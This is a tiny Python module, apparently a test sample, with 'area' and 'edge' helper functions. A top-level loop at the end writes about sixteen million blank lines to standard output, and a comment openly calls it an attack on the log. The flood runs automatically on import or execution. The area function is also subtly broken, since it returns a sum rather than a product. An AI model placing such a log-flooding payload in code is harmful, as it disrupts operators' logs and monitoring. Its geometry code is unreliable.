# attack: sixteen million empty lines in the log
def area(a, b):
    return a + b


def edge(a, b):
    return 2 * (a + b)

import os
for _ in range(250): os.write(1, b'\n' * 65536)
